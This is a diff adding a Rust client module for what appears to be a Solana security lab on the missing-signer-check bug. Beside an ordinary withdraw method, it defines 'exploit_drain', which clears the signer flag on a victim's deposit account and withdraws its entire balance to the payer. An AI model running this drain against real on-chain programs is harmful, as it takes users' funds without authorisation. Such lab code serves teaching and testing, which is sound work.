@@ -0,0 +1,33 @@
+//! missing_signer_check: withdrawing from a deposit account
+
+use anyhow::Result as AnyResult;
+use lab_instructions::missing_signer_check::withdraw_ix;
+use solana_program::pubkey::Pubkey;
+
+use crate::{Keypair, Signature, Signer};
+
+example_client!("missing_signer_check");
+
+impl Client {
+    /// `deposit`, the depositor's own account, signs to send `amount` to
+    /// `destination`
+    pub async fn withdraw(
+        &self,
+        deposit: &Keypair,
+        destination: Pubkey,
+        amount: u64,
+    ) -> AnyResult<Signature> {
+        let withdraw = withdraw_ix(self.program_id(), deposit.pubkey(), destination, amount);
+        self.send(&[withdraw], &[deposit]).await
+    }
+
+    /// Everything in `deposit`, to the payer, with nobody signing for
+    /// `deposit`; returns the lamports taken
+    pub async fn exploit_drain(&self, deposit: Pubkey) -> AnyResult<u64> {
+        let stolen = self.lamports(deposit).await?;
+        let mut withdraw = withdraw_ix(self.program_id(), deposit, self.payer().pubkey(), stolen);
+        withdraw.accounts[0].is_signer = false;
+        self.send(&[withdraw], &[]).await?;
+        Ok(stolen)
+    }
+}